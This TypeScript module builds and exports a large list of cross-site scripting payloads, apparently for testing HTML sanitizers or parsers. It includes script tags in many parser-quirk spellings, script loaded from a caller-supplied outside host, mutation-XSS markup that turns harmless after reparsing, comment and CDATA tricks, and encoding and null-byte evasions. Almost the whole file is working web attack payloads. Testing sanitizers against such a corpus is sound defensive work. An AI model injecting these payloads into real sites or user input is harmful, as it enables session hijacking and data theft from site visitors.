import { RUN } from './spellings.ts'

const plain = `<script>${RUN}</script>`
const image = `<img src=x onerror=${RUN}>`

/** A script element in every form that some parser has run. */
const scripts = (elsewhere: string): readonly string[] => [
  plain,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script\u000b>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}//`,
  `<script type=module>${RUN}</script>`,
  `<script type=text/vbscript>MsgBox(1)</script>`,
  `<script language=JScript.Encode>${RUN}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<script src=//${elsewhere.replace(/^https?:\/\//, '')}/a.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=importmap>{"imports":{"x":"${elsewhere}/a.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${elsewhere}/a"]}]}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script\u0000>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<svg><script><![CDATA[${RUN}]]></script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template shadowrootmode=open>${plain}</template>`,
  `<iframe srcdoc="${plain}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,${plain}"></object>`,
  `<embed code="${elsewhere}/x.swf" allowscriptaccess=always>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<!DOCTYPE html [<!ENTITY x "${plain}">]>&x;`,
  `<xml id=x><a><b>${plain}</b></a></xml>`,
]

/** Elements whose content is text to one parser and markup to another. */
const RAW =
  'style title textarea xmp iframe noembed noframes noscript template plaintext listing comment'
const FOREIGN = ['svg', 'math', 'svg><desc', 'svg><title', 'svg><foreignObject', 'math><mtext']
const INSIDE = ['style', 'title', 'textarea', 'noscript', 'xmp', 'script', 'mglyph', 'malignmark']

/** Markup that is harmless when it is read, and not when what was read is written and read again. */
const mutations = (): readonly string[] => [
  ...RAW.split(' ').flatMap((tag) => [
    `<${tag}>${image}</${tag}>`,
    `<${tag}></${tag} >${image}`,
    `<p title="</${tag}>${image}">x</p>`,
    `<${tag}><a title="</${tag}>${image}">x</a></${tag}>`,
    `<${tag}><!--</${tag}>${image}-->`,
  ]),
  ...FOREIGN.flatMap((outer) =>
    INSIDE.map((inner) => `<${outer}><${inner}><a id="</${inner}>${image}">x</a></${inner}>`),
  ),
  ...['p', 'br', 'table', 'b', 'ul', 'span', 'h1', 'center'].flatMap((breaker) => [
    `<svg></${breaker}><style><a id="</style>${image}">`,
    `<math><${breaker}><style><!--</style>${image}--></math>`,
  ]),
  ...['table', 'select', 'colgroup', 'caption', 'frameset', 'form'].flatMap((strict) => [
    `<${strict}>${image}</${strict}>`,
    `<${strict}><svg><style><td title="</style>${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}<${strict}>`,
  ]),
]

const comments: readonly string[] = [
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!-- --!>${image}-->`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[${image}]]>`,
  `<svg><![CDATA[><image xlink:href="]]>${image}"></svg>`,
  `<?php ${image} ?>`,
  `<!${image}>`,
  `</ ${image}>`,
  `<%${image}%>`,
  `<!--[if gte IE 4]>${plain}<![endif]-->`,
  `<comment>${image}</comment>`,
]

const encodings: readonly string[] = [
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `<\u0000img src=x onerror=${RUN}>`,
  `<img\u0000 src=x onerror=${RUN}>`,
  `<im\u00adg src=x onerror=${RUN}>`,
  `\u0000\u0008\u000b<img src=x onerror=${RUN}>`,
]

export const scriptAttacks = (elsewhere: string): readonly string[] => [
  ...scripts(elsewhere),
  ...mutations(),
  ...comments,
  ...encodings,
]
